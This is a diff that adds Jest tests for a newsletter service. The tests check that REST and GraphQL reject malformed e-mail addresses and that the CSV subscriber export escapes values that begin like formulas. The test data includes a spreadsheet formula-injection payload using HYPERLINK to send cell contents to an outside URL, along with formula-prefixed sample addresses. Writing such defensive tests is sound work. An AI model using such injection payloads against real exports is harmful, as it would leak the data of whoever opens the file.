@@ -140,6 +140,25 @@ describe('messaging with a working mail server', () => {
     expect(await t.dataSource.query(`SELECT 1 FROM newsletter_subscriber WHERE email = 'not-an-address'`)).toEqual([]);
   });
 
+  it('applies the one e-mail rule: a spreadsheet formula and a one-letter top-level domain are refused by REST and GraphQL', async () => {
+    for (const email of ['=HYPERLINK("https://x/?"&A2,"y")&"@a.b"', 'a@b.c']) {
+      const rest = await t.http().post('/api/v1/mail/subscribe').send({ email }).expect(400);
+      expect(rest.body).toEqual({ status: 'fail', message: 'email must be a valid e-mail address' });
+      const graphql = await gql(t, 'mutation ($e: String!) { subscribeToNewsletter(email: $e) { message } }', { e: email }).expect(200);
+      expect(graphql.body.errors[0]).toMatchObject({ message: 'email must be a valid e-mail address', extensions: { code: 'BAD_USER_INPUT' } });
+    }
+    expect(await t.dataSource.query(`SELECT email FROM newsletter_subscriber WHERE email LIKE '%hyperlink%' OR email = 'a@b.c'`)).toEqual([]);
+  });
+
+  it('exports an address that starts like a formula as text, never as a formula', async () => {
+    await t.http().post('/api/v1/mail/subscribe').send({ email: '=1+2@example.org' }).expect(200);
+    await t.http().post('/api/v1/mail/subscribe').send({ email: '-cmd@example.org' }).expect(200);
+    const csv = await t.http().get('/api/v1/mail/subscribers.csv').set('authorization', `Bearer ${await t.token()}`).expect(200);
+    const emails = csv.text.split('\r\n').map((line) => line.split(',')[0]);
+    expect(emails).toEqual(expect.arrayContaining(["'=1+2@example.org", "'-cmd@example.org"]));
+    expect(emails.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
+
   it('lets the admin read subscribers, export them as CSV, and read the outbox', async () => {
     const token = await t.token();
     const auth = { authorization: `Bearer ${token}` };
